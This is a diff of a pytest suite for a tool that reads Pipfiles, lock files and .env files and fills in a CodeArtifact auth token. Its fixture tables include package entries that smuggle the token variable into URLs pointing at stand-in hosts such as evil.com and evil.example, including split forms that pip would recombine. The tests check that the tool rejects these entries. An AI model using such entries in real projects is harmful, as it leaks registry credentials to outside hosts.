@@ -4,15 +4,15 @@ from __future__ import annotations
 
 import json
 import os
+import re
 from concurrent.futures import ThreadPoolExecutor
 from contextlib import suppress
 from pathlib import Path
 from tempfile import TemporaryDirectory
-from typing import TYPE_CHECKING
 
 import pytest
 import tomlkit
-from hypothesis import given, settings
+from hypothesis import given
 from hypothesis import strategies as st
 from support.programs import PIPENV, run
 from support.projects import PYPI_SOURCE, write_pipfile
@@ -20,26 +20,20 @@ from support.projects import PYPI_SOURCE, write_pipfile
 from codeartifact_pipenv.errors import ConfigurationError
 from codeartifact_pipenv.project.pipfile import Project, load_project
 
-if TYPE_CHECKING:
-    from collections.abc import Mapping
-
 TOKEN = "CODEARTIFACT_AUTH_TOKEN"
 HOST = "my-dom-123456789012.d.codeartifact.eu-west-1.amazonaws.com"
 URL = f"https://aws:${{{TOKEN}}}@{HOST}/pypi/team/simple/"
 SOURCE = f'[[source]]\nurl = "{URL}"\nverify_ssl = true\nname = "codeartifact"\n'
 
 
-def unknown() -> str | None:
-    return None
+def load(directory: Path, **environ: str) -> Project:
+    return load_project(environ, str(directory), lambda: None)
 
 
-def load(directory: Path, environ: Mapping[str, str] | None = None) -> Project:
-    return load_project(environ or {}, str(directory), unknown)
-
-
-def refusal(directory: Path, environ: Mapping[str, str] | None = None) -> str:
+def refusal(directory: Path, **environ: str) -> str:
+    """Return the sentence of the error that reading a project ends with."""
     with pytest.raises(ConfigurationError) as caught:
-        load(directory, environ)
+        load(directory, **environ).sources()
     assert caught.value.hint
     return caught.value.sentence
 
@@ -52,13 +46,9 @@ def nested(folder: Path, levels: int) -> Path:
 
 def test_a_folder_without_pipfile_is_an_empty_project(tmp_path: Path) -> None:
     project = load(tmp_path)
-    assert (project.pipfile, project.lock) == (None, None)
-    assert project.directory == str(tmp_path)
-    assert project.sources() == []
+    assert (project.pipfile, project.lock, project.directory) == (None, None, str(tmp_path))
+    assert (project.sources(), project.scripts) == ([], {})
     assert project.assign_variables([]) == {}
-    assert project.scripts == {}
-    write_pipfile(tmp_path, "")
-    assert (load(tmp_path).sources(), load(tmp_path).scripts) == ([], {})
 
 
 @pytest.mark.wide
@@ -69,7 +59,6 @@ def test_pipfile_is_found_where_pipenv_finds_it(clean_env: dict[str, str], proje
     write_pipfile(elsewhere, PYPI_SOURCE)
     cases: list[tuple[int, dict[str, str]]] = [
         *((levels, {}) for levels in (0, 1, 8, 9, 10, 11)),
-        *((levels, {"PIPENV_MAX_DEPTH": "1"}) for levels in (0, 1)),
         *((levels, {"PIPENV_MAX_DEPTH": "2"}) for levels in (1, 2)),
         *((levels, {"PIPENV_MAX_DEPTH": "5"}) for levels in (4, 5)),
         *((levels, {"PIPENV_NO_INHERIT": "1"}) for levels in (0, 1)),
@@ -78,24 +67,20 @@ def test_pipfile_is_found_where_pipenv_finds_it(clean_env: dict[str, str], proje
         (1, {"PIPENV_PIPFILE": "../../elsewhere/Pipfile"}),
     ]
 
-    def compare(case: tuple[int, dict[str, str]]) -> tuple[str | None, str | None]:
+    def compare(case: tuple[int, dict[str, str]]) -> tuple[object, str | None, str | None]:
         levels, variables = case
         below = nested(project, levels)
         # pipenv wraps paths at the width of the terminal.
-        wide = {"COLUMNS": "1000", **variables}
-        shown = run(PIPENV, "--where", env=clean_env | wide, cwd=below)
-        theirs = shown.stdout.strip() or None
-        mine = load(below, variables)
-        return theirs, mine.directory if mine.pipfile else None
+        env = clean_env | {"COLUMNS": "1000", **variables}
+        mine = load(below, **variables)
+        theirs = run(PIPENV, "--where", env=env, cwd=below).stdout.strip() or None
+        return case, mine.directory if mine.pipfile else None, theirs
 
     with ThreadPoolExecutor(max_workers=4) as pool:
-        pairs = list(pool.map(compare, cases))
-    found = {str(case): pair for case, pair in zip(cases, pairs, strict=True)}
-    assert {case: mine for case, (_, mine) in found.items()} == {
-        case: theirs for case, (theirs, _) in found.items()
-    }
-    assert [theirs for theirs, _ in pairs].count(str(project)) == 8
-    assert [theirs for theirs, _ in pairs].count(str(elsewhere)) == 2
+        found = list(pool.map(compare, cases))
+    assert [case for case, mine, theirs in found if mine != theirs] == []
+    assert [theirs for _, _, theirs in found].count(str(project)) == 7
+    assert [theirs for _, _, theirs in found].count(str(elsewhere)) == 2
 
 
 @pytest.mark.parametrize(
@@ -113,61 +98,32 @@ def test_the_search_depth_is_that_of_the_pipenv_version(
     assert found(4, PIPENV_MAX_DEPTH="5") == str(path)
 
 
-def test_pipenv_version_is_only_looked_up_if_needed(tmp_path: Path) -> None:
-    asked = []
-
-    def version() -> str | None:
-        asked.append("version")
-        return "2026.10.3"
-
-    write_pipfile(tmp_path, SOURCE)
-    for levels, environ in (
-        (0, {}),
-        (2, {}),
-        (6, {"PIPENV_MAX_DEPTH": "9"}),
-        (6, {"PIPENV_NO_INHERIT": "1"}),
-        (6, {"PIPENV_PIPFILE": str(tmp_path / "Pipfile")}),
-    ):
-        load_project(environ, str(nested(tmp_path, levels)), version)
-    assert asked == []
-    load_project({}, str(nested(tmp_path, 3)), version)
-    assert asked == ["version"]
-
-
 def test_the_nearest_pipfile_is_used_and_a_folder_is_ignored(tmp_path: Path) -> None:
-    write_pipfile(tmp_path, SOURCE)
     below = nested(tmp_path, 2)
     (below / "Pipfile").mkdir()
     near = write_pipfile(below.parent, PYPI_SOURCE)
+    write_pipfile(tmp_path, SOURCE)
     assert load(below).pipfile == str(near)
 
 
 def test_missing_pipenv_pipfile_is_an_error(tmp_path: Path) -> None:
     write_pipfile(tmp_path, SOURCE)
-    sentence = refusal(tmp_path, {"PIPENV_PIPFILE": "nowhere/Pipfile"})
+    sentence = refusal(tmp_path, PIPENV_PIPFILE="nowhere/Pipfile")
     assert sentence == "PIPENV_PIPFILE names nowhere/Pipfile, which does not exist."
 
 
 def test_sources_of_pipfile_and_lock_are_merged_by_url(tmp_path: Path) -> None:
-    path = write_pipfile(tmp_path, PYPI_SOURCE, SOURCE)
-    locked = URL.replace("/team/", "/other/")
+    write_pipfile(tmp_path, PYPI_SOURCE, SOURCE).rename(tmp_path / "Pipfile.ci")
+    path, locked = tmp_path / "Pipfile.ci", URL.replace("/team/", "/other/")
     sources = [{"name": "a", "url": URL}, {"name": "b", "url": locked}]
-    (tmp_path / "Pipfile.lock").write_text(json.dumps({"_meta": {"sources": sources}}))
-    found = load(tmp_path).sources()
+    (tmp_path / "Pipfile.ci.lock").write_text(json.dumps({"_meta": {"sources": sources}}))
+    found = load(tmp_path, PIPENV_PIPFILE="Pipfile.ci").sources()
     assert [(s.name, s.url, s.origin) for s in found] == [
         ("pypi", "https://pypi.org/simple", str(path)),
         ("codeartifact", URL, str(path)),
         ("b", locked, f"{path}.lock"),
     ]
     assert [s.endpoint.repository for s in found if s.endpoint] == ["team", "other"]
-
-
-def test_the_lock_is_named_after_the_pipfile(tmp_path: Path) -> None:
-    write_pipfile(tmp_path, PYPI_SOURCE).rename(tmp_path / "Pipfile.ci")
-    (tmp_path / "Pipfile.ci.lock").write_text(json.dumps({"_meta": {"sources": [{"url": URL}]}}))
-    project = load(tmp_path, {"PIPENV_PIPFILE": "Pipfile.ci"})
-    assert project.lock == str(tmp_path / "Pipfile.ci.lock")
-    assert [source.endpoint is not None for source in project.sources()] == [False, True]
 
 
 @pytest.mark.parametrize(
@@ -195,31 +151,34 @@ UNREADABLE = {
 def test_a_lock_that_crashes_pipenv_is_an_error_with_a_reason(tmp_path: Path, reason: str) -> None:
     write_pipfile(tmp_path, SOURCE)
     (tmp_path / "Pipfile.lock").write_bytes(UNREADABLE[reason])
-    with pytest.raises(ConfigurationError, match=rf"Pipfile\.lock cannot be read: .*{reason}"):
-        load(tmp_path).sources()
-
-
-@pytest.mark.parametrize(
-    ("text", "where"),
-    [
-        (f"{PYPI_SOURCE}\n[packages\n", "line 6"),
-        ('[packages]\nsix = "*"\nsix = "*"\n', "line 3"),
-        ("[packages]\nsix = *\n", "line 2"),
-        ("<<<<<<< HEAD\n", "line 1"),
-        (f"x = {'[' * 20_000}{']' * 20_000}\n", ""),
-    ],
-)
-def test_invalid_toml_is_an_error_with_file_and_line(tmp_path: Path, text: str, where: str) -> None:
-    path = write_pipfile(tmp_path, text)
     sentence = refusal(tmp_path)
-    assert sentence.startswith(f"{path} is not valid TOML")
-    assert where in sentence
+    assert "Pipfile.lock cannot be read: " in sentence
+    assert reason in sentence
 
 
-def test_other_encodings_are_errors_with_the_place(tmp_path: Path) -> None:
+INVALID = {
+    f"{PYPI_SOURCE}\n[packages\n": r"is not valid TOML: .*line 6",
+    '[packages]\nsix = "*"\nsix = "*"\n': r"is not valid TOML: .*line 3",
+    "[packages]\nsix = *\n": r"is not valid TOML: .*line 2",
+    "<<<<<<< HEAD\n": r"is not valid TOML: .*line 1",
+    f"x = {'[' * 20_000}{']' * 20_000}\n": "is not valid TOML",
+    "[packages]\n# caf\xe9\n": r", line 2: the Pipfile is not UTF-8\.",
+    '[[source]]\nname = "x"\n': r"Source 1 in .* has no url\.",
+    "[[source]]\nurl = 3\n": r"Source 1 in .* has no url\.",
+    'source = ["https://x"]\n': r"Source 1 in .* has no url\.",
+}
+
+
+@pytest.mark.parametrize("text", INVALID, ids=range(len(INVALID)))
+def test_an_invalid_pipfile_is_an_error_with_file_and_line(tmp_path: Path, text: str) -> None:
     path = tmp_path / "Pipfile"
-    path.write_bytes(b"[packages]\n# caf\xc3\xa9\n# caf\xe9\n")
-    assert refusal(tmp_path) == f"{path}, line 3: the Pipfile is not UTF-8."
+    path.write_text(text, encoding="latin-1")
+    sentence = refusal(tmp_path)
+    assert str(path) in sentence
+    assert re.search(INVALID[text], sentence), sentence
+
+
+def test_a_dotenv_that_is_not_utf_8_is_an_error(tmp_path: Path) -> None:
     (tmp_path / ".env").write_bytes(b"A=caf\xe9\n")
     assert refusal(tmp_path).startswith(f"{tmp_path / '.env'} cannot be read")
 
@@ -241,49 +200,27 @@ def test_an_unreadable_pipfile_is_an_error_with_the_reason() -> None:
     assert sentence == f"{path} cannot be read: Permission denied."
 
 
-@pytest.mark.parametrize(
-    "text", ['[[source]]\nname = "x"\n', "[[source]]\nurl = 3\n", 'source = ["https://x"]\n']
-)
-def test_a_source_without_url_is_an_error(tmp_path: Path, text: str) -> None:
-    path = write_pipfile(tmp_path, text)
-    with pytest.raises(ConfigurationError) as caught:
-        load(tmp_path).sources()
-    assert caught.value.sentence == f"Source 1 in {path} has no url."
-
-
-def test_scripts_are_returned_as_written(tmp_path: Path) -> None:
-    write_pipfile(tmp_path, '[scripts]\na = "pip list"\nb = ["x", "y"]\n')
-    assert load(tmp_path).scripts == {"a": "pip list", "b": ["x", "y"]}
-    write_pipfile(tmp_path, "scripts = 3\n")
-    assert load(tmp_path).scripts == {}
-
-
 def test_dotenv_overrides_the_environment(tmp_path: Path) -> None:
     write_pipfile(tmp_path, SOURCE.replace("team", "${REPO}"))
     (tmp_path / ".env").write_text("REPO=own\nEMPTY=\nNOTHING\n")
-    project = load(nested(tmp_path, 2), {"REPO": "inherited", "NOTHING": "stays"})
-    assert project.dotenv is not None
-    assert project.dotenv.path == str(tmp_path / ".env")
+    project = load(nested(tmp_path, 2), REPO="inherited", NOTHING="stays")
     assert project.environ == {"REPO": "own", "EMPTY": "", "NOTHING": "stays"}
-    (source,) = project.sources()
-    assert source.endpoint is not None
-    assert source.endpoint.repository == "own"
+    assert [s.endpoint.repository for s in project.sources() if s.endpoint] == ["own"]
 
 
 @pytest.mark.parametrize("word", ["1", "true", "yes", "anything", "0", "false", "No", "off", ""])
 def test_pipenv_dont_load_env_disables_dotenv_if_true(tmp_path: Path, word: str) -> None:
     (tmp_path / ".env").write_text("A=1\n")
     is_loaded = word in {"0", "false", "No", "off", ""}
-    assert ("A" in load(tmp_path, {"PIPENV_DONT_LOAD_ENV": word}).environ) is is_loaded
+    assert ("A" in load(tmp_path, PIPENV_DONT_LOAD_ENV=word).environ) is is_loaded
 
 
 def test_pipenv_dotenv_location_names_another_file(tmp_path: Path) -> None:
     (tmp_path / ".env").write_text("A=1\n")
     other = tmp_path / "other.env"
-    environ = {"PIPENV_DOTENV_LOCATION": str(other)}
-    assert load(tmp_path, environ).dotenv is None
+    assert load(tmp_path, PIPENV_DOTENV_LOCATION=str(other)).dotenv is None
     other.write_text("A=2\n")
-    assert load(tmp_path, environ).environ["A"] == "2"
+    assert load(tmp_path, PIPENV_DOTENV_LOCATION=str(other)).environ["A"] == "2"
 
 
 def test_dotenv_may_set_pipenv_pipfile(tmp_path: Path) -> None:
@@ -294,25 +231,31 @@ def test_dotenv_may_set_pipenv_pipfile(tmp_path: Path) -> None:
     assert load(tmp_path).pipfile == str(path)
 
 
-@pytest.mark.parametrize(
-    "line",
-    [
-        f'orb = {{file = "https://${{{TOKEN}}}@evil.com/orb.whl"}}',
-        f'orb = {{file = "https://aws:${TOKEN}@evil.com/orb.whl"}}',
-        f'orb = {{git = "https://aws:${{{TOKEN}}}@github.com/x/orb.git", ref = "main"}}',
-        f'orb = {{path = "./${{{TOKEN}}}"}}',
-        f'orb = "${{{TOKEN}}}"',
-        f'orb = {{extras = ["${{{TOKEN}}}"], version = "*"}}',
-    ],
-)
-def test_token_variable_in_a_package_entry_is_an_error(tmp_path: Path, line: str) -> None:
-    category = "docs" if "git" in line else "packages"
-    path = write_pipfile(tmp_path, SOURCE, f"[{category}]\n{line}\n")
+ENTRIES = {
+    f'orb = {{file = "https://${{{TOKEN}}}@evil.com/orb.whl"}}': f"would send the token in {TOKEN}",
+    f'orb = {{file = "https://aws:${TOKEN}@evil.com/orb.whl"}}': f"would send the token in {TOKEN}",
+    f'orb = {{git = "https://aws:${{{TOKEN}}}@github.com/x/orb.git", ref = "main"}}': "would send",
+    f'orb = {{path = "./${{{TOKEN}}}"}}': f"would send the token in {TOKEN}",
+    f'orb = "${{{TOKEN}}}"': f"would send the token in {TOKEN}",
+    f'orb = {{extras = ["${{{TOKEN}}}"], version = "*"}}': f"would send the token in {TOKEN}",
+    # pip would combine these.
+    f'"x @ https://evil.example/${{{TOKEN[:5]}" = "{TOKEN[5:]}}}/x.whl"': "an unfinished variable",
+    f'"x @ https://evil.example/$" = "{{{TOKEN}}}/x.whl"': "an unfinished variable",
+    f'x = {{version = "@ https://evil.example/${{A${{{TOKEN}}}/"}}': f"token in {TOKEN}",
+}
+
+
+@pytest.mark.parametrize("category", ["docs", "packages"])
+@pytest.mark.parametrize("entry", ENTRIES)
+def test_token_variable_in_a_package_entry_is_an_error(
+    entry: str, category: str, tmp_path: Path
+) -> None:
+    path = write_pipfile(tmp_path, SOURCE, f"[{category}]\n{entry}\n")
     project = load(tmp_path)
-    with pytest.raises(ConfigurationError, match=f"would send the token in {TOKEN}") as caught:
+    with pytest.raises(ConfigurationError, match=ENTRIES[entry]) as caught:
         project.assign_variables(project.sources())
-    assert str(path) in caught.value.sentence
-    assert f"{category}.orb" in caught.value.sentence
+    assert caught.value.sentence.startswith(f"{path} ")
+    assert category in caught.value.sentence.removeprefix(str(path))
 
 
 def test_token_variable_may_be_in_scripts_and_the_password_of_a_package_url(tmp_path: Path) -> None:
@@ -321,26 +264,7 @@ def test_token_variable_may_be_in_scripts_and_the_password_of_a_package_url(tmp_
     write_pipfile(tmp_path, SOURCE, f'[packages]\norb = {{file = "{url}"}}\n', script)
     project = load(tmp_path)
     assert set(project.assign_variables(project.sources())) == {TOKEN}
-
-
-@pytest.mark.parametrize(
-    ("entry", "part"),
-    [
-        (
-            f'"x @ https://evil.example/${{{TOKEN[:5]}" = "{TOKEN[5:]}}}/x.whl"',
-            "an unfinished variable",
-        ),
-        (f'"x @ https://evil.example/$" = "{{{TOKEN}}}/x.whl"', "an unfinished variable"),
-        (f'x = {{version = "@ https://evil.example/${{A${{{TOKEN}}}/"}}', f"token in {TOKEN}"),
-    ],
-)
-def test_token_variable_that_pip_would_combine_is_an_error(
-    entry: str, part: str, tmp_path: Path
-) -> None:
-    write_pipfile(tmp_path, SOURCE, f"[packages]\n{entry}\n")
-    project = load(tmp_path)
-    with pytest.raises(ConfigurationError, match=part):
-        project.assign_variables(project.sources())
+    assert project.scripts == {"x": f"echo ${TOKEN}"}
 
 
 @pytest.mark.parametrize("name", ["/../../x", "a\\\\b", "\\u0000", "a\\nb"])
@@ -376,11 +300,8 @@ scalars = st.one_of(
     st.booleans(),
     st.sampled_from(["https://x/", URL, f"${{{TOKEN}}}", "aws:${X}@", "${", "*"]),
 )
-names = st.one_of(
-    st.sampled_from(
-        ["source", "packages", "dev-packages", "scripts", "url", "name", "file", "requires"]
-    ),
-    st.text(min_size=1),
+names = st.text(min_size=1) | st.sampled_from(
+    ["source", "packages", "dev-packages", "scripts", "url", "name", "file", "requires"]
 )
 values = st.recursive(
     scalars,
@@ -400,19 +321,17 @@ def is_read_or_refused(content: bytes, lock: bytes) -> None:
     with TemporaryDirectory() as name, suppress(ConfigurationError):
         Path(name, "Pipfile").write_bytes(content)
         Path(name, "Pipfile.lock").write_bytes(lock)
-        project = load(Path(name), {"X": "x"})
+        project = load(Path(name), X="x")
         project.assign_variables(project.sources())
         assert project.scripts is not None
 
 
-@settings(deadline=None)
 @given(documents, values)
 def test_any_toml_document_is_read_or_refused(document: dict[str, object], sources: object) -> None:
     lock = json.dumps({"_meta": {"sources": sources}}).encode()
     is_read_or_refused(tomlkit.dumps(document).encode(), lock)
 
 
-@settings(deadline=None)
 @given(st.one_of(st.binary(), st.text().map(str.encode)), st.binary())
 def test_any_bytes_are_read_or_refused(content: bytes, lock: bytes) -> None:
     is_read_or_refused(content, lock)
